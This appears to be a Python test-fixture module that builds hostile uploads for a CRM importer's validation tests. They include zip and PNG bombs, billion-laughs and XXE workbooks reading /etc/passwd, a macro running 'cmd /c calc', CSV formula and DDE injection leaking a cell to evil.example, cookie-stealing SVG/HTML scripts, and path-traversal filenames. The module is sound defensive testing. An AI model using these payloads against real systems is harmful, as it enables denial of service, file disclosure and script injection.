"""Hostile upload files, generated at run time (nothing binary is committed): spreadsheets that bomb, lie, carry
macros or entities, files that pretend to be what they are not, names that try to be paths, and images that hide
scripts or decompress to gigabytes. Each `Hostile` says what a user must be told (`reason`, a Chinese fragment)."""

from __future__ import annotations

import codecs
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

from PIL import Image

from crm.excel_import import column_letter

# ---------------------------------------------------------------- a workbook written by hand

CONTENT_TYPES = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                 b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                 b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                 b'<Default Extension="xml" ContentType="application/xml"/>'
                 b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                 b'spreadsheetml.sheet.main+xml"/>'
                 b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
                 b'officedocument.spreadsheetml.worksheet+xml"/>'
                 b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                 b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
ROOT_RELS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
             b'officeDocument" Target="xl/workbook.xml"/></Relationships>')
WORKBOOK = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            b'<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
WORKBOOK_RELS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                 b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                 b'worksheet" Target="worksheets/sheet1.xml"/>'
                 b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                 b'sharedStrings" Target="sharedStrings.xml"/></Relationships>')
SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
              b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
SHEET_TAIL = b"</sheetData></worksheet>"
SST_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="2" uniqueCount="2">')
HEADER = ("客户类型", "客户名称")


def zip_of(members: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, body in members.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))  # fixed time: the same bytes each run
            info.compress_type = method
            archive.writestr(info, body)
    return out.getvalue()


def inline_row(number: int, values: tuple[str, ...]) -> bytes:
    cells = b"".join(b'<c r="%s%d" t="inlineStr"><is><t>%s</t></is></c>'
                     % (chr(65 + i).encode(), number, v.encode()) for i, v in enumerate(values))
    return b'<row r="%d">%s</row>' % (number, cells)


def workbook_members(sheet_rows: bytes = b"", sst: bytes | None = None, **extra: bytes) -> dict[str, bytes]:
    """The parts of a one-sheet .xlsx; `extra` adds or replaces parts (by their path, '/' written as '__')."""
    members = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": ROOT_RELS, "xl/workbook.xml": WORKBOOK,
               "xl/_rels/workbook.xml.rels": WORKBOOK_RELS,
               "xl/worksheets/sheet1.xml": SHEET_HEAD + (sheet_rows or inline_row(1, HEADER)) + SHEET_TAIL,
               "xl/sharedStrings.xml": sst if sst is not None else SST_HEAD + b"</sst>"}
    for key, body in extra.items():
        members[key.replace("__", "/")] = body
    return members


def workbook(sheet_rows: bytes = b"", sst: bytes | None = None, **extra: bytes) -> bytes:
    return zip_of(workbook_members(sheet_rows, sst, **extra))


def good_workbook() -> bytes:
    """A harmless two-column sheet: what the hostile variants start from."""
    return workbook(inline_row(1, HEADER) + inline_row(2, ("个人", "张三")))


# ---------------------------------------------------------------- spreadsheets that attack the reader

def zip_bomb(inflated: int = 200 * 1024 * 1024) -> bytes:
    """A sheet of `inflated` bytes of one repeated space: a few hundred KB of deflate, ratio ≈ 1000."""
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b" " * (1 << 20)
    body = bytearray(deflater.compress(SHEET_HEAD))
    for _i in range(inflated // len(chunk)):
        body += deflater.compress(chunk)
    body += deflater.compress(SHEET_TAIL) + deflater.flush()
    size = len(SHEET_HEAD) + (inflated // len(chunk)) * len(chunk) + len(SHEET_TAIL)
    crc = zlib.crc32(SHEET_HEAD)
    for _i in range(inflated // len(chunk)):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(SHEET_TAIL, crc)
    return _raw_zip([(name, zlib.compress(body_, 9)[2:-4], len(body_), zlib.crc32(body_))
                     for name, body_ in workbook_members().items() if name != "xl/worksheets/sheet1.xml"]
                    + [("xl/worksheets/sheet1.xml", bytes(body), size, crc)])


def _raw_zip(entries: list[tuple[str, bytes, int, int]], *, flags: int = 0, method: int = 8) -> bytes:
    """A zip from already-deflated members (name, deflated bytes, inflated size, crc)."""
    out = bytearray()
    central = bytearray()
    for name, deflated, size, crc in entries:
        encoded = name.encode()
        offset = len(out)
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, method, 0, 0x21, crc, len(deflated), size,
                           len(encoded), 0) + encoded + deflated
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, flags, method, 0, 0x21, crc,
                               len(deflated), size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), len(out), 0)
    return bytes(out + central + end)


def nested_zip() -> bytes:
    """A zip holding a zip holding the workbook: no workbook at the top, and a reader must not unpack deeper."""
    inner = zip_of({"inner.xlsx": good_workbook()})
    return zip_of({"outer.zip": inner, "readme.txt": b"open me"})


def billion_laughs(where: str = "xl/sharedStrings.xml") -> bytes:
    """Nested entities: 10 levels × 10 copies = 10^9 'lol' if a reader expands them."""
    dtd = b'<!ENTITY lol0 "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, b"".join(b"&lol%d;" % (i - 1) for _j in range(10))) for i in range(1, 10))
    doctype = b'<?xml version="1.0"?><!DOCTYPE sst [' + dtd + b"]>"
    if where == "xl/sharedStrings.xml":
        sst = doctype + (b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
                         b'uniqueCount="1"><si><t>&lol9;</t></si></sst>')
        rows = b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
        return workbook(rows, sst)
    return workbook(**{where.replace("/", "__"): doctype + WORKBOOK.split(b"?>", 1)[1].replace(
        b'name="Sheet1"', b'name="&lol9;"')})


def external_entity(target: str = "file:///etc/passwd", where: str = "xl/sharedStrings.xml") -> bytes:
    """XXE: an entity whose value is a local file (or a URL) that a careless parser would read into a cell."""
    doctype = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "' + target.encode() + b'">]>'
    if where == "xl/sharedStrings.xml":
        sst = doctype + (b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
                         b'uniqueCount="1"><si><t>&xxe;</t></si></sst>')
        return workbook(b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>', sst)
    body = doctype + (WORKBOOK if where == "xl/workbook.xml" else CONTENT_TYPES).split(b"?>", 1)[1]
    if where == "xl/workbook.xml":
        body = body.replace(b'name="Sheet1"', b'name="&xxe;"')
    return workbook(**{where.replace("/", "__"): body})


def parameter_entity() -> bytes:
    """An external parameter entity in [Content_Types].xml (the out-of-band XXE variant)."""
    body = (b'<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY % ext SYSTEM "http://127.0.0.1:9/evil.dtd"> %ext;]>'
            + CONTENT_TYPES.split(b"?>", 1)[1])
    return workbook(**{"[Content_Types].xml": body})


def macro_workbook() -> bytes:
    """An .xlsm (VBA project inside) saved under an .xlsx name."""
    types = CONTENT_TYPES.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml").replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    vba = OLE_MAGIC + b"\x00" * 504 + b"Attribute VB_Name = \"ThisWorkbook\"\r\nSub Workbook_Open()\r\n" \
        b"Shell \"cmd /c calc\"\r\nEnd Sub\r\n"
    return workbook(inline_row(1, HEADER), None, **{"[Content_Types].xml": types, "xl__vbaProject.bin": vba})


def xlsb() -> bytes:
    """A binary workbook (.xlsb): a zip with xl/workbook.bin and no workbook.xml."""
    return zip_of({"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": ROOT_RELS.replace(b".xml", b".bin"),
                   "xl/workbook.bin": b"\x83\x01\x00\x80\x01\x00", "xl/worksheets/sheet1.bin": b"\x81\x01\x00"})


def rows_sheet(last_row: int, last_col: str = "A") -> bytes:
    """Two cells, A1 and <last_col><last_row>: tiny on disk, but the used range spans every row and column between."""
    rows = inline_row(1, HEADER) + b'<row r="%d"><c r="%s%d"><v>1</v></c></row>' % (last_row, last_col.encode(),
                                                                                   last_row)
    return workbook(rows)


def dense_rows(count: int) -> bytes:
    """`count` real rows of one number each (the whole sheet is parsed before the count is known)."""
    deflater = zlib.compressobj(6, zlib.DEFLATED, -15)
    crc = zlib.crc32(SHEET_HEAD)
    body = bytearray(deflater.compress(SHEET_HEAD))
    size = len(SHEET_HEAD)
    step = 50_000
    for start in range(1, count + 1, step):
        chunk = b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (n, n, n)
                         for n in range(start, min(start + step, count + 1)))
        body += deflater.compress(chunk)
        crc = zlib.crc32(chunk, crc)
        size += len(chunk)
    body += deflater.compress(SHEET_TAIL) + deflater.flush()
    crc = zlib.crc32(SHEET_TAIL, crc)
    size += len(SHEET_TAIL)
    return _raw_zip([(name, zlib.compress(b, 9)[2:-4], len(b), zlib.crc32(b))
                     for name, b in workbook_members().items() if name != "xl/worksheets/sheet1.xml"]
                    + [("xl/worksheets/sheet1.xml", bytes(body), size, crc)])


def wide_row(columns: int = 16_384) -> bytes:
    """One row with a value in every column, A to XFD."""
    cells = b"".join(b'<c r="%s1"><v>%d</v></c>' % (col_letters(i).encode(), i) for i in range(columns))
    return workbook(b'<row r="1">' + cells + b"</row>")


col_letters = column_letter  # 0 → A, 16383 → XFD: the importer's own


def huge_cell(size: int = 100 * 1024 * 1024) -> bytes:
    """One inline string of `size` bytes (an 'A' repeated): a 100 MB cell in a ~100 KB file."""
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = SHEET_HEAD + b'<row r="1"><c r="A1" t="inlineStr"><is><t>'
    tail = b"</t></is></c></row>" + SHEET_TAIL
    chunk = b"A" * (1 << 20)
    body = bytearray(deflater.compress(head))
    crc = zlib.crc32(head)
    for _i in range(size // len(chunk)):
        body += deflater.compress(chunk)
        crc = zlib.crc32(chunk, crc)
    body += deflater.compress(tail) + deflater.flush()
    crc = zlib.crc32(tail, crc)
    total = len(head) + (size // len(chunk)) * len(chunk) + len(tail)
    return _raw_zip([(name, zlib.compress(b, 9)[2:-4], len(b), zlib.crc32(b))
                     for name, b in workbook_members().items() if name != "xl/worksheets/sheet1.xml"]
                    + [("xl/worksheets/sheet1.xml", bytes(body), total, crc)])


def lying_sizes() -> bytes:
    """The central directory declares the sheet 100 bytes long; it inflates to 2 MB."""
    honest = workbook(inline_row(1, HEADER) + b" " * (2 * 1024 * 1024))
    name = b"xl/worksheets/sheet1.xml"
    i = honest.index(name, honest.index(b"PK\x01\x02")) - 46
    return honest[:i + 24] + struct.pack("<I", 100) + honest[i + 28:]


def encrypted_zip_member() -> bytes:
    """A workbook whose members carry the zip 'encrypted' flag (a password-protected zip)."""
    entries = [(name, zlib.compress(b, 9)[2:-4], len(b), zlib.crc32(b)) for name, b in workbook_members().items()]
    return _raw_zip(entries, flags=0x1)


def bzip2_workbook() -> bytes:
    return zip_of(workbook_members(), method=zipfile.ZIP_BZIP2)


def many_members(count: int = 6_000) -> bytes:
    members = workbook_members()
    members.update({f"xl/media/image{i}.bin": b"" for i in range(count)})
    return zip_of(members, method=zipfile.ZIP_STORED)


def truncated_zip() -> bytes:
    data = good_workbook()
    return data[: len(data) // 2]


def malformed_sheet_xml() -> bytes:
    return workbook(b'<row r="1"><c r="A1" t="inlineStr"><is><t>unclosed')


# ---------------------------------------------------------------- OLE compound files (legacy .xls, encrypted .xlsx)

OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
FREE, END, FATSECT, NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def ole_file(streams: dict[str, bytes]) -> bytes:
    """A minimal compound file (CFB v3, 512-byte sectors): one FAT sector, one directory sector, then each stream
    padded to whole sectors and at least 4096 bytes (so no mini stream is needed)."""
    sector = 512
    bodies = [body.ljust(max(4096, -(-len(body) // sector) * sector), b"\x00") for body in streams.values()]
    fat = [FATSECT, END]
    starts = []
    for body in bodies:
        count = len(body) // sector
        starts.append(len(fat))
        fat += [len(fat) + k + 1 for k in range(count - 1)] + [END]
    assert len(fat) <= sector // 4 and len(streams) <= 3
    header = struct.pack("<8s16sHHHHH6sIIIIIIIIII", OLE_MAGIC, b"\x00" * 16, 0x3E, 3, 0xFFFE, 9, 6, b"\x00" * 6,
                         0, 1, 1, 0, 4096, END, 0, END, 0, 0)
    header += struct.pack("<109I", *([FREE] * 109))
    header = header[:76] + struct.pack("<I", 0) + header[80:]  # DIFAT[0]: the FAT is sector 0

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        encoded = (name + "\x00").encode("utf-16-le")
        return struct.pack("<64sHBBIII16sIQQIQ", encoded, len(encoded), kind, 1, NOSTREAM, right, child,
                           b"\x00" * 16, 0, 0, 0, start, size)

    names = list(streams)
    entries = [entry("Root Entry", 5, 1, NOSTREAM, END, 0)]
    for i, (name, body, start) in enumerate(zip(names, streams.values(), starts, strict=True)):
        right = i + 2 if i + 1 < len(names) else NOSTREAM
        entries.append(entry(name, 2, NOSTREAM, right, start, len(body)))
    directory = b"".join(entries).ljust(sector, b"\x00")
    fat_sector = struct.pack(f"<{sector // 4}I", *(fat + [FREE] * (sector // 4 - len(fat))))
    return header + fat_sector + directory + b"".join(bodies)


def encrypted_workbook() -> bytes:
    """What Excel writes for a workbook with an open password: an OLE file with EncryptionInfo and
    EncryptedPackage, saved as .xlsx."""
    info = struct.pack("<HHI", 4, 4, 0x40) + b"<?xml version=\"1.0\"?><encryption xmlns=\"http://schemas." \
        b"microsoft.com/office/2006/encryption\"><keyData saltSize=\"16\" blockSize=\"16\" keyBits=\"256\" " \
        b"cipherAlgorithm=\"AES\" cipherChaining=\"ChainingModeCBC\" hashAlgorithm=\"SHA512\"/></encryption>"
    package = struct.pack("<Q", 4096) + bytes(range(256)) * 16
    return ole_file({"EncryptionInfo": info, "EncryptedPackage": package})


def ole_garbage() -> bytes:
    """An OLE file with no Workbook stream (e.g. a Word 97 document renamed .xls)."""
    return ole_file({"WordDocument": b"\xec\xa5" + bytes(4094)})


# ---------------------------------------------------------------- not spreadsheets at all

def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(200)


def pe() -> bytes:
    stub = b"MZ" + bytes(58) + struct.pack("<I", 64)
    return stub + b"PE\x00\x00" + struct.pack("<HH", 0x8664, 1) + bytes(300)


def pdf() -> bytes:
    return (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def png(size: tuple[int, int] = (8, 8)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buf, format="PNG")
    return buf.getvalue()


def jpeg(size: tuple[int, int] = (8, 8)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, (30, 30, 200)).save(buf, format="JPEG")
    return buf.getvalue()


def png_bomb(side: int = 30_000) -> bytes:
    """A PNG that claims side × side pixels (900 megapixels, 2.7 GB decoded) in a few KB of zeros."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    deflater = zlib.compressobj(9)
    row = b"\x00" * (1 + side * 3)
    body = bytearray()
    for _i in range(64):  # only the first rows: a decoder allocates for all of them before it reads any
        body += deflater.compress(row)
    body += deflater.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", bytes(body)) + chunk(b"IEND", b""))


SVG_SCRIPT = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" '
              b'onload="alert(document.cookie)"><script>alert(1)</script><rect width="10" height="10"/></svg>')
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script><table><tr><td>1</td></tr></table>" \
    b"</body></html>"


def jpeg_html_polyglot() -> bytes:
    """A JPEG header followed by an HTML page: a sniffing browser could run it as a page."""
    return b"\xff\xd8\xff\xe0" + b"\x00\x10JFIF\x00" + HTML_PAGE + b"\xff\xd9"


def png_then_script() -> bytes:
    """A valid PNG with an HTML/script trailer after IEND (survives a check that only decodes the image)."""
    return png() + HTML_PAGE


def pdf_with_javascript() -> bytes:
    """A PDF whose open action runs JavaScript, saved as .jpg."""
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
            b"trailer<</Root 1 0 R>>\n%%EOF\n")


# ---------------------------------------------------------------- text files

CSV_ROWS = [list(HEADER), ["个人", "张三"], ["个人", "李四"]]


def csv_text(rows: list[list[str]] | None = None) -> str:
    return "".join(",".join(r) + "\r\n" for r in (rows or CSV_ROWS))


def gbk_csv() -> bytes:
    return csv_text().encode("gbk")


def bom_csv() -> bytes:
    return codecs.BOM_UTF8 + csv_text().encode("utf-8")


def utf16_csv() -> bytes:
    return csv_text().encode("utf-16")  # with its BOM, as Excel's "Unicode text" writes it


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,1)",
            "=1+1"]


def formula_csv() -> bytes:
    rows = [list(HEADER)] + [["个人", f] for f in FORMULAS]
    return ("\r\n".join(",".join('"' + c.replace('"', '""') + '"' for c in r) for r in rows) + "\r\n").encode(
        "utf-8-sig")


def million_rows_csv(count: int = 1_048_576) -> bytes:
    return ("客户类型,客户名称\r\n" + "个人,张\r\n" * count).encode("utf-8")


def huge_csv_field(size: int = 10 * 1024 * 1024) -> bytes:
    return b'\xe5\xae\xa2\xe6\x88\xb7\xe5\x90\x8d\xe7\xa7\xb0\r\n"' + b"A" * size + b'"\r\n'


def undecodable_csv() -> bytes:
    return b"name\r\n" + b"\x81\x30\xff\xfe\x80\x80" * 10 + b"\r\n"


def binary_csv() -> bytes:
    return b"a,b\r\n\x00\x01\x02\x03" + bytes(100)


# ---------------------------------------------------------------- the catalogue

@dataclass(frozen=True)
class Hostile:
    """One hostile upload: the bytes (made on demand), the name and content type the client sends, and the
    fragment of the Chinese reason the user must see."""

    key: str
    make: Callable[[], bytes]
    filename: str
    reason: str
    mimetype: str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    status: int = 422
    tags: frozenset[str] = field(default_factory=frozenset)

    def data(self) -> bytes:
        """The bytes, made once per run (the largest take seconds to make)."""
        if self.key not in _MADE:
            _MADE[self.key] = self.make()
        return _MADE[self.key]


_MADE: dict[str, bytes] = {}


XLS_MIME = "application/vnd.ms-excel"
WORST = frozenset({"worst"})

SPREADSHEETS: list[Hostile] = [
    Hostile("zip-bomb", zip_bomb, "炸弹.xlsx", "压缩炸弹", tags=WORST),
    Hostile("zip-bomb-100mb-cell", huge_cell, "大单元格.xlsx", "压缩炸弹"),
    Hostile("nested-zip", nested_zip, "嵌套.xlsx", "没有工作簿"),
    Hostile("billion-laughs-sst", billion_laughs, "笑话.xlsx", "外部实体", tags=WORST),
    Hostile("billion-laughs-workbook", lambda: billion_laughs("xl/workbook.xml"), "笑话2.xlsx", "外部实体"),
    Hostile("xxe-etc-passwd", external_entity, "xxe.xlsx", "外部实体"),
    Hostile("xxe-workbook-url", lambda: external_entity("http://127.0.0.1:9/x", "xl/workbook.xml"), "xxe2.xlsx",
            "外部实体"),
    Hostile("xxe-parameter-entity", parameter_entity, "xxe3.xlsx", "外部实体"),
    Hostile("macro-as-xlsx", macro_workbook, "宏.xlsx", "宏"),
    Hostile("xlsm-extension", macro_workbook, "宏.xlsm", "仅支持"),
    Hostile("xlsb-extension", xlsb, "二进制.xlsb", "仅支持"),
    Hostile("xlsb-as-xlsx", xlsb, "二进制.xlsx", "没有工作簿"),
    Hostile("elf-as-xlsx", elf, "客户.xlsx", "不是 Excel 或 CSV 表格"),
    Hostile("pe-as-xlsx", pe, "客户.xlsx", "不是 Excel 或 CSV 表格", mimetype="application/x-msdownload"),
    Hostile("pe-exe-name", pe, "setup.exe", "仅支持", mimetype="application/x-msdownload"),
    Hostile("pdf-as-xlsx", pdf, "客户.xlsx", "不是 Excel 或 CSV 表格"),
    Hostile("png-as-xlsx", png, "客户.xlsx", "不是 Excel 或 CSV 表格", mimetype="image/png"),
    Hostile("html-as-xls", lambda: HTML_PAGE, "客户.xls", "网页格式", mimetype=XLS_MIME),
    Hostile("word-ole-as-xls", ole_garbage, "客户.xls", "无法读取该 .xls 文件", mimetype=XLS_MIME),
    Hostile("empty", lambda: b"", "客户.xlsx", "文件是空的"),
    Hostile("one-byte", lambda: b"P", "客户.xlsx", "不是 Excel 文件"),
    Hostile("truncated-zip", truncated_zip, "客户.xlsx", "已损坏"),
    Hostile("lying-sizes", lying_sizes, "客户.xlsx", "与文件头不符"),
    Hostile("zip-encrypted-members", encrypted_zip_member, "客户.xlsx", "设有密码"),
    Hostile("bzip2-members", bzip2_workbook, "客户.xlsx", "不支持的压缩方式"),
    Hostile("too-many-members", many_members, "客户.xlsx", "文件结构异常"),
    Hostile("malformed-xml", malformed_sheet_xml, "客户.xlsx", "已损坏"),
    Hostile("encrypted-ole", encrypted_workbook, "加密.xlsx", "设有密码"),
    Hostile("rows-1048576", lambda: dense_rows(1_048_576), "百万行.xlsx", "行数过多", tags=WORST),
    Hostile("sparse-a1-to-a1048576", lambda: rows_sheet(1_048_576), "稀疏.xlsx", "行数过多"),
    Hostile("sparse-a1-to-z1048576", lambda: rows_sheet(1_048_576, "Z"), "稀疏2.xlsx", "行数过多", tags=WORST),
    Hostile("sparse-a1-to-xfd1048576", lambda: rows_sheet(1_048_576, "XFD"), "稀疏3.xlsx", "行数过多", tags=WORST),
    Hostile("sparse-a1-to-xfd2", lambda: rows_sheet(2, "XFD"), "稀疏4.xlsx", "列数过多"),
    Hostile("cells-over-limit", lambda: rows_sheet(200_000, "IV"), "稀疏5.xlsx", "表格过大"),
    Hostile("columns-16384", wide_row, "宽表.xlsx", "列数过多"),
    Hostile("csv-1048576-rows", million_rows_csv, "百万行.csv", "行数过多", mimetype="text/csv"),
    Hostile("csv-10mb-field", huge_csv_field, "大字段.csv", "CSV 文件格式有误", mimetype="text/csv"),
    Hostile("csv-undecodable", undecodable_csv, "乱码.csv", "文字编码", mimetype="text/csv"),
    Hostile("csv-binary", binary_csv, "二进制.csv", "不是文本格式的 CSV", mimetype="text/csv"),
    Hostile("over-max-bytes", lambda: b"a,b\r\n" * (21 * 1024 * 1024 // 5), "大文件.csv", "文件过大",
            mimetype="text/csv"),
    Hostile("over-max-content-length", lambda: b"a,b\r\n" * (40 * 1024 * 1024 // 5), "超大.csv", "文件过大",
            mimetype="text/csv", status=413),
]

# Names a client should never send. The content is a good workbook: only the name is hostile.
NAMES: list[Hostile] = [
    Hostile("name-traversal", good_workbook, "../../etc/x.xlsx", "文件名"),
    Hostile("name-traversal-windows", good_workbook, "..\\..\\windows\\x.xlsx", "文件名"),
    Hostile("name-absolute", good_workbook, "/etc/cron.d/x.xlsx", "文件名"),
    Hostile("name-nul-byte", good_workbook, "x.xlsx\x00.exe", "文件名"),
    Hostile("name-control-chars", good_workbook, "x\r\nSet-Cookie: a=b.xlsx", "文件名"),
    Hostile("name-very-long", good_workbook, "长" * 300 + ".xlsx", "文件名"),
]
# Names that are odd but harmless once the server never uses them as a path: accepted, stored nowhere by that name.
ODD_NAMES = ["CON.xlsx", "NUL.xlsx", "COM1.xlsx", "aux.xlsx", "C:\\fakepath\\客户.xlsx"]

IMAGES: list[Hostile] = [
    Hostile("svg-script", lambda: SVG_SCRIPT, "照片.svg", "", mimetype="image/svg+xml"),
    Hostile("svg-as-png", lambda: SVG_SCRIPT, "照片.png", "", mimetype="image/png"),
    Hostile("html-as-jpg", lambda: HTML_PAGE, "照片.jpg", "", mimetype="image/jpeg"),
    Hostile("jpeg-html-polyglot", jpeg_html_polyglot, "照片.jpg", "", mimetype="image/jpeg"),
    Hostile("png-bomb", png_bomb, "照片.png", "", mimetype="image/png", tags=WORST),
    Hostile("elf-as-jpg", elf, "照片.jpg", "", mimetype="image/jpeg"),
    Hostile("pe-as-png", pe, "照片.png", "", mimetype="image/png"),
    Hostile("truncated-png", lambda: png((64, 64))[:60], "照片.png", "", mimetype="image/png"),
    Hostile("empty-image", lambda: b"", "照片.jpg", "", mimetype="image/jpeg"),
    Hostile("xlsx-as-jpg", good_workbook, "照片.jpg", "", mimetype="image/jpeg"),
]
